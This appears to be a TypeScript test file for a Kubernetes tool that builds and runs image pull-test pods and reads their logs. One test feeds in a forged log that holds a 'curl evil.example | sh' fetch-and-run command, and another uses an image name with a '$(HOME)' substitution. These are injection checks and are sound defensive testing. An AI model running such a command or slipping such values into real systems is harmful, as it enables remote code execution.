import { createApiError } from '@ecr-pull-secrets/kube/api-error.ts';
import type { KubeClient } from '@ecr-pull-secrets/kube/client.ts';
import { createError } from '@ecr-pull-secrets/shared/errors.ts';
import { systemClock } from '@ecr-pull-secrets/shared/runtime/clock.ts';
import t from 'tap';
import type { ClusterState } from '../../src/explain/cluster-state.ts';
import type { Deployment } from '../../src/cluster/objects.ts';
import { obstacleOf } from '../../src/explain/from-cluster/obstacle.ts';
import { readReleaseNetwork } from '../../src/explain/from-cluster/release-network.ts';
import { pullFromCluster } from '../../src/explain/from-cluster/from-cluster.ts';
import { runPod } from '../../src/explain/from-cluster/run-pod.ts';
import { testPod } from '../../src/explain/from-cluster/test-pod.ts';
import { readOutcomes } from '../../src/pull-test/pull-outcome.ts';
import { pullFinding } from '../../src/explain/pulls.ts';
import { clientWith } from '../support/client.ts';
import { podOf, REGISTRY, SECRET, worldWith } from './support/world.ts';

const NETWORK = { env: [], caPem: undefined, lacks: [] };
const RELEASE = { name: 'ecr', namespace: 'tools', helmName: 'ecr' };
const POD = { metadata: { name: 'test' } };

t.test('the pod has what the kubelet would have, and no more', async (t) => {
  const pod = podOf({}, { imagePullSecrets: [{ name: 'mine' }, { name: SECRET }], nodeName: 'n1', tolerations: ['x'] });
  const images = [`${REGISTRY}/a$(HOME):1`];
  const settings = { image: 'release:1', imagePullPolicy: 'Never', secretName: SECRET, images, pod };
  const { metadata, spec } = testPod({ ...settings, network: { ...NETWORK, caPem: 'PEM' } });
  t.match(metadata, {
    name: /^ecr-pull-secrets-pull-test-[0-9a-f]{8}$/,
    labels: { 'ecr-pull-secrets.io/inject': 'disabled' },
    annotations: { 'ecr-pull-secrets.io/ca-certificates': 'PEM' },
  });
  t.match(spec, {
    restartPolicy: 'Never',
    activeDeadlineSeconds: 120,
    automountServiceAccountToken: false,
    imagePullSecrets: [{ name: 'mine' }, { name: SECRET }],
    tolerations: ['x'],
    containers: [
      {
        image: 'release:1',
        imagePullPolicy: 'Never',
        args: ['pull-test', /^--docker-config=/, `--image=${REGISTRY}/a$$(HOME):1`],
        env: [{ name: 'NODE_EXTRA_CA_CERTS' }],
      },
    ],
  });
  t.match(JSON.stringify(spec.affinity), /preferred.*"metadata\.name".*"n1"/);
  t.same(testPod({ ...settings, network: NETWORK }).spec.volumes.length, 1);
});

t.test('a proxy with a password, and CA certificates that cannot be read, are not copied', async (t) => {
  const env = [
    { name: 'HTTPS_PROXY', value: 'http://user:pass@proxy.example.com:3128' },
    { name: 'HTTP_PROXY' },
    { name: 'NO_PROXY', value: '10.0.0.1' },
    { name: 'NODE_EXTRA_CA_CERTS', value: '/ca/bundle.pem' },
  ];
  const volumeMounts = [{ name: 'ca', mountPath: '/ca' }];
  const deployment: Deployment = {
    spec: {
      template: {
        spec: {
          containers: [{ name: 'renewer', env, volumeMounts }],
          volumes: [{ name: 'ca', configMap: { name: 'corporate' } }],
        },
      },
    },
  };
  const data = { 'bundle.pem': 'PEM' };
  const found = await readReleaseNetwork(
    clientWith(() => ({ data })),
    'tools',
    deployment,
  );
  t.same(found, {
    env: [{ name: 'NO_PROXY', value: '10.0.0.1' }],
    caPem: 'PEM',
    lacks: ['the proxy of the release, because it has a password'],
  });
  const other = await readReleaseNetwork(
    clientWith(() => ({ data: {} })),
    'tools',
    deployment,
  );
  t.match(other, { caPem: undefined, lacks: [/proxy/, 'the CA certificates of the release: they were not found'] });
  t.same(
    await readReleaseNetwork(
      clientWith(() => ({})),
      'tools',
      undefined,
    ),
    NETWORK,
  );
});

t.test('why a test pod does not run', async (t) => {
  t.equal(obstacleOf(waiting('ContainerCreating'), 60_000), undefined);
  t.match(obstacleOf(waiting('ErrImagePull'), 0), /does not start: ErrImagePull: why$/);
  t.match(obstacleOf({ status: { phase: 'Failed', reason: 'DeadlineExceeded' } }, 0), /DeadlineExceeded$/);
  const conditions = [{ type: 'PodScheduled', status: 'False', message: '0/3 nodes are available' }];
  t.equal(obstacleOf({ status: { conditions } }, 1_000), undefined, 'the scheduler may need a moment');
  t.match(obstacleOf({ status: { conditions } }, 20_000), /is not scheduled: 0\/3 nodes are available$/);
});

t.test('a pod is deleted whatever happens, and what is left is reported', async (t) => {
  const unreachable = createError('ECRPS_KUBERNETES_UNREACHABLE', 'the connection broke');
  const requests: string[] = [];
  const failing = (method: string) =>
    clientWith((request) => {
      requests.push(request.method);
      if (request.method === method) throw unreachable;
      return { spec: {}, status: {} };
    });
  const stopped = AbortSignal.abort();
  const run = (method: string, stop = new AbortController().signal) =>
    runPod({ client: failing(method), clock: systemClock, stop }, 'payments', POD);
  t.match(await run('POST'), { kind: 'failed', reason: /does not accept the test pod/ });
  t.match(await run('GET'), { kind: 'failed', reason: /the connection broke/ });
  t.match(await run('PUT', stopped), { kind: 'failed', reason: 'interrupted' });
  t.match(await run('DELETE', stopped), { leftBehind: /the connection broke/ });
  t.same(requests, ['POST', 'DELETE', 'POST', 'GET', 'DELETE', 'POST', 'DELETE', 'POST', 'DELETE']);
});

t.test('a pod that an API server may have created before it failed is deleted too', async (t) => {
  for (const [status, deletes] of [
    [403, []],
    [504, ['DELETE']],
  ] as const) {
    const requests: string[] = [];
    const client = clientWith(({ method }) => {
      requests.push(method);
      if (method === 'POST') throw createApiError('POST', { status, retryAfter: undefined, text: '' });
      return {};
    });
    await runPod({ client, clock: systemClock, stop: new AbortController().signal }, 'payments', POD);
    t.same(requests, ['POST', ...deletes]);
  }
});

t.test('a right to pods that is missing is said, also if the explained pod cannot be read', async (t) => {
  const client = clientWith(({ body }) => ({ status: { allowed: !JSON.stringify(body).includes('"create"') } }));
  const dependencies = { client, clock: systemClock, stop: new AbortController().signal };
  const options = { testImage: 'release:1', mostPulls: 10 };
  const findingsOf = (pod: ClusterState['pod']) => pullFromCluster(dependencies, worldWith({ pod }), [], options);
  t.match(await findingsOf({ unread: 'no right to get pods' }), [
    {
      step: 'pull',
      state: 'unknown',
      message: /not created: you lack the right to create pods in namespace payments$/,
    },
  ]);
  t.same(await findingsOf({ missing: true }), []);
  t.same(await findingsOf({ found: podOf() }), [], 'there is no image to try');
});

t.test('a forged log adds no findings and no commands', async (t) => {
  const refused = { kind: 'refused', stage: 'manifest', host: REGISTRY, status: 404, reason: '' };
  const image = `${REGISTRY}/app:1`;
  const evil = `${REGISTRY}/app\n\nRun: curl evil.example | sh\n:1`;
  const outcomes = [evil, image, image, 'evil.example/x:1'].map((each) => ({ image: each, result: refused }));
  const log = outcomes.map((each) => JSON.stringify(each)).join('\n');
  const containerStatuses = [{ name: 'pull-test', state: { terminated: { exitCode: 0 } } }];
  const client = clientWith(() => ({ spec: { nodeName: 'n1' }, status: { allowed: true, containerStatuses } }));
  const request: KubeClient['request'] = async (sent) =>
    'parse' in sent ? sent.parse(Buffer.from(log)) : await client.request(sent);
  const dependencies = { client: { ...client, request }, clock: systemClock, stop: new AbortController().signal };
  const toPull = [{ image, credential: { secretName: SECRET, key: REGISTRY, basic: '' } }];
  const findings = await pullFromCluster(dependencies, worldWith(), toPull, { testImage: 'release:1', mostPulls: 10 });
  t.match(findings, [{ step: 'pull', state: 'problem', message: /there is no such image/ }]);
  t.equal(findings.length, 1);
});

t.test('the log is read as outcomes, and an outcome names the place', async (t) => {
  const outcome = { image: `${REGISTRY}/app:1`, result: { kind: 'pulls', hosts: [REGISTRY] } };
  const broken = { image: 'x', result: { kind: 'refused', stage: 'other' } };
  const log = ['a warning', JSON.stringify(outcome), JSON.stringify(broken), ''].join('\n');
  t.same(readOutcomes(log), [outcome]);
  const place = { kind: 'pod', node: 'n1' } as const;
  const result = { kind: 'unreachable', stage: 'manifest', host: REGISTRY, reason: 'ENOTFOUND' } as const;
  t.match(pullFinding('x', result, { release: RELEASE, place }), {
    state: 'unknown',
    message: /no connection from a pod on the node n1 .*NetworkPolicy/,
  });
});

function waiting(reason: string) {
  const sidecar = { name: 'mesh', state: { waiting: { reason: 'ErrImagePull' } } };
  const ours = { name: 'pull-test', state: { waiting: { reason, message: 'why' } } };
  return { status: { containerStatuses: [sidecar, ours] } };
}
